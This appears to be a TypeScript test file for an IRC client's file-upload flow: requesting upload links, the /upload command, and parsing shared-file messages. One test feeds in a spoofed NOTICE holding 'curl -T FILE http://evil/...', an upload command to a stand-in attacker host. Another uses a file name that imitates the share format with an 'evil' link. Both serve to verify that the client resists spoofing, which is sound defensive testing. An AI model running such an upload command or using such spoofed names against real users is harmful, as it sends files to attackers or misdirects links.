// The clients' side of UPLOAD (src/clients/shared/uploads.ts), the web /upload command, and
// the file-message format (src/files/message.ts) both ends rely on.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { IrcClient, type TransportHandlers } from '../../../src/clients/shared/irc-client.js';
import { requestUploadLink } from '../../../src/clients/shared/uploads.js';
import { runInput } from '../../../src/clients/web/commands.js';
import { humanSize, parseShare, shareText } from '../../../src/files/message.js';

function client() {
  let h: TransportHandlers | null = null;
  const sent: string[] = [];
  const c = new IrcClient({
    nick: 'me',
    serverLabel: 'test',
    reconnect: false,
    transport: (hh) => {
      h = hh;
      return { send: (l) => sent.push(l), close: () => queueMicrotask(() => hh.onClose()) };
    },
  });
  c.connect();
  const recv = (...ls: string[]): void => ls.forEach((l) => h!.onLine(l));
  h!.onOpen();
  recv(':srv 001 me :hi', ':srv 005 me CHANTYPES=# :ok');
  return { c, sent, recv };
}

test('requestUploadLink sends UPLOAD and resolves with the link from the server NOTICE', async () => {
  const { c, sent, recv } = client();
  const p = requestUploadLink(c, '#room');
  assert.equal(sent.at(-1), 'UPLOAD #room');
  // someone else's notice is not the answer
  recv(':bob!b@h NOTICE me :*** Upload to #room: curl -T FILE http://evil/u/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA/');
  recv(':srv NOTICE me :*** Upload to #room: curl -T FILE http://10.0.0.1:4444/u/abcdefghijklmnopqrstuvwxyz012345/');
  recv(':srv NOTICE me :*** That link is for you alone: ...');
  assert.equal(await p, 'http://10.0.0.1:4444/u/abcdefghijklmnopqrstuvwxyz012345/');
});

test('requestUploadLink rejects with the server reason, or when UPLOAD is unknown', async () => {
  const { c, recv } = client();
  const p = requestUploadLink(c, '#nope');
  recv(':srv NOTICE me :*** You are not in #nope: join it first to share a file there.');
  await assert.rejects(p, /You are not in #nope/);
  const q = requestUploadLink(c, '#x');
  recv(':srv 421 me UPLOAD :Unknown command');
  await assert.rejects(q, /does not share files/);
});

test('the web /upload asks the UI for the file picker, except in the server window', () => {
  const { c, recv } = client();
  assert.deepEqual(runInput(c, '/upload'), {});
  assert.match(c.server.lines.at(-1)!.text, /Open a room or a conversation first/);
  recv(':me!u@h JOIN #room', ':srv 353 me = #room :me', ':srv 366 me #room :End');
  c.setActive(c.find('#room')!);
  assert.deepEqual(runInput(c, '/upload'), { ui: 'upload' });
});

test('share text: what the server posts is what the clients parse back', () => {
  const url = 'http://10.0.0.1:4444/f/AbCdEfGhIjKlMnOp/cat%20pic.png';
  const t = shareText('cat pic.png', 123_456, url);
  assert.equal(t, `shared cat pic.png (120 KB) ${url}`);
  assert.deepEqual(parseShare(t), { name: 'cat pic.png', size: '120 KB', url, image: true });
  // a name that imitates the format does not move the real link
  const tricky = shareText('x (1 KB) http://evil/f/AAAAAAAAAAAAAAAA/x', 5, url);
  assert.equal(parseShare(tricky)?.url, url);
  assert.equal(parseShare('shared nothing'), null);
  assert.equal(humanSize(1), '1 byte');
  assert.equal(humanSize(1023), '1023 bytes');
  assert.equal(humanSize(1536), '1.5 KB');
  assert.equal(humanSize(25 * 1024 * 1024), '25 MB');
});
